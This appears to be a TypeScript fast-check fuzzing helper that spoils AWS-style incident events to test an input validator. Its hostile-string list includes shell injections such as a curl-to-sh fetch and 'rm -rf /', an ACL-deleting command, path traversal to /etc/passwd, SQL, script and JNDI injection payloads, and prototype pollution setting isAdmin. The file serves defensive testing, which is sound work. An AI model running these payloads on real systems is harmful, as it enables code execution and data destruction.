import fc from "fast-check";

/** Strings an attacker (or a tired responder) puts where an id belongs. */
export const HOSTILE_STRINGS: readonly string[] = [
  "i-123; rm -rf /",
  "../../etc/passwd",
  "$(curl http://203.0.113.9/x | sh)",
  "`id`",
  "' OR 1=1; DROP TABLE incidents; --",
  "<script>alert(1)</script>",
  "${jndi:ldap://203.0.113.9/a}",
  "{{7*7}}",
  "%2e%2e%2f%2e%2e%2f",
  "arn:aws:iam::123456789012:role/../../admin",
  "arn:aws:s3:::*",
  "arn:aws:ec2:us-east-1:123456789012:instance/*",
  "arn:aws:iam::12345:user/x",
  "i-0123456789abcdef0\n",
  " i-0123456789abcdef0",
  "i-0123456789abcdef0,i-0fedcba9876543210",
  "i-0123456789ABCDEF0",
  "i-0123456789abcdef",
  "\u202ei-0123456789abcdef0",
  "i-0123456789\u200babcdef0",
  "ｉ-0123456789abcdef0",
  "\u0000",
  "",
  "*",
  "sg-*",
  "acl-0e1f2a3b4c5d6e7f8; aws ec2 delete-network-acl",
  "AKIA' OR '1'='1",
  "🔥".repeat(40),
  "x".repeat(5000),
];

/** A value of the wrong type where a string is expected. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.constantFrom(...HOSTILE_STRINGS), { maxLength: 3 }),
  fc.dictionary(fc.constantFrom("a", "id", "__proto__", "constructor"), fc.constantFrom(...HOSTILE_STRINGS), { maxKeys: 2 }),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).chain((s) => fc.string({ unit: "grapheme", maxLength: 8 }).map((r) => `${r}${s}`)) },
  { weight: 2, arbitrary: wrongType },
);

export type Path = readonly (string | number)[];

/** Every path to a leaf and to an object or array node of a JSON value. */
export function pathsOf(value: unknown, prefix: Path = []): { leaves: Path[]; nodes: Path[] } {
  const leaves: Path[] = [];
  const nodes: Path[] = [];
  const walk = (node: unknown, path: Path) => {
    if (node !== null && typeof node === "object") {
      nodes.push(path);
      for (const [key, child] of Object.entries(node)) walk(child, [...path, Array.isArray(node) ? Number(key) : key]);
    } else leaves.push(path);
  };
  walk(value, prefix);
  return { leaves, nodes };
}

/** A copy with the value at `path` replaced (or deleted when `value` is `DELETE`). */
export const DELETE = Symbol("delete");
export function withValue(event: unknown, path: Path, value: unknown): Record<string, unknown> {
  const copy = structuredClone(event) as Record<string, unknown>;
  let node: Record<string | number, unknown> = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path.at(-1)!;
  if (value === DELETE) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

/** `levels` nested objects. */
export function deep(levels: number): unknown {
  let value: unknown = "bottom";
  for (let i = 0; i < levels; i += 1) value = { nested: value };
  return value;
}

/** How one event is spoiled. */
export type Mutation =
  | { readonly kind: "set"; readonly leaf: number; readonly value: unknown }
  | { readonly kind: "delete-envelope"; readonly field: string }
  | { readonly kind: "pollute"; readonly node: number; readonly key: "__proto__" | "constructor" | "prototype" }
  | { readonly kind: "huge"; readonly node: number }
  | { readonly kind: "deep"; readonly node: number; readonly levels: number };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 6, arbitrary: fc.record({ kind: fc.constant("set" as const), leaf: fc.nat(), value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("delete-envelope" as const), field: fc.constantFrom("id", "source", "detail-type", "account", "region", "detail") }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("pollute" as const), node: fc.nat(), key: fc.constantFrom("__proto__" as const, "constructor" as const, "prototype" as const) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("huge" as const), node: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("deep" as const), node: fc.nat(), levels: fc.integer({ min: 65, max: 5000 }) }) },
);

const MEGABYTE = "A".repeat(1024 * 1024);

export function applyMutation(event: Record<string, unknown>, m: Mutation): Record<string, unknown> {
  const { leaves, nodes } = pathsOf(event);
  // Keys can only be added to objects (an array's named property would not survive JSON).
  const objects = nodes.filter((path) => !Array.isArray(path.reduce<unknown>((n, k) => (n as Record<string | number, unknown>)[k], event)));
  switch (m.kind) {
    case "set":
      return withValue(event, leaves[m.leaf % leaves.length]!, m.value);
    case "delete-envelope":
      return withValue(event, [m.field], DELETE);
    case "pollute": {
      const at = objects[m.node % objects.length]!;
      return withValue(event, [...at, m.key], JSON.parse('{"polluted": true, "isAdmin": true}') as unknown);
    }
    case "huge":
      return withValue(event, [...objects[m.node % objects.length]!, "padding"], MEGABYTE);
    case "deep":
      return withValue(event, [...objects[m.node % objects.length]!, "nested"], deep(m.levels));
  }
}
